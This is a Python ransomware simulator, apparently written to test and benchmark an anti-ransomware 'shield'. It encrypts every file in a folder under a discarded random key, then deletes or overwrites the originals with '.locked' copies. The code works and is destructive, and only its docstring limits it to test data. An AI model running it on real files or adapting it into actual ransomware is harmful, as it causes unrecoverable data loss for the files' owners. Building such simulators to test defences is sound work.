"""A ransomware simulator for the shield's tests and benchmarks: it behaves like ransomware
(read a file, write an encrypted copy, delete the original, next file), on test data only.

    python ransomware_sim.py FOLDER [--rate N] [--ext .locked] [--limit N] [--in-place]

Files are taken in directory order (``os.scandir``), hidden ones included, and encrypted with
AES-256-CTR under a random key that is never stored (the data is generated test data). At
``--rate`` files per second (0: as fast as it can). Each copy is ``name + ext`` with the
16-byte nonce first, then the ciphertext. ``--in-place`` rewrites each file and then renames it
instead. Nothing in the shield looks at this program's name, path or command line.

Prints ``done <n>`` when it has processed every file.
"""

from __future__ import annotations

import argparse
import os
import sys
import time

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes


def encrypt(key: bytes, data: bytes) -> bytes:
    nonce = os.urandom(16)
    enc = Cipher(algorithms.AES(key), modes.CTR(nonce)).encryptor()
    return nonce + enc.update(data) + enc.finalize()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("folder")
    ap.add_argument("--rate", type=float, default=0.0, help="files per second, 0: unthrottled")
    ap.add_argument("--ext", default=".locked")
    ap.add_argument("--limit", type=int, default=0)
    ap.add_argument("--in-place", action="store_true")
    args = ap.parse_args(argv)

    key = os.urandom(32)
    with os.scandir(args.folder) as it:
        names = [e.path for e in it if e.is_file(follow_symlinks=False)]
    if args.limit:
        names = names[: args.limit]
    start = time.monotonic()
    done = 0
    for i, path in enumerate(names):
        if args.rate > 0:
            delay = start + i / args.rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        try:
            with open(path, "rb") as fh:
                data = fh.read()
            blob = encrypt(key, data)
            if args.in_place:
                with open(path, "r+b") as fh:
                    fh.write(blob)
                    fh.truncate()
                os.rename(path, path + args.ext)
            else:
                with open(path + args.ext, "wb") as fh:
                    fh.write(blob)
                os.unlink(path)
        except OSError:
            continue
        done += 1
    print(f"done {done}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
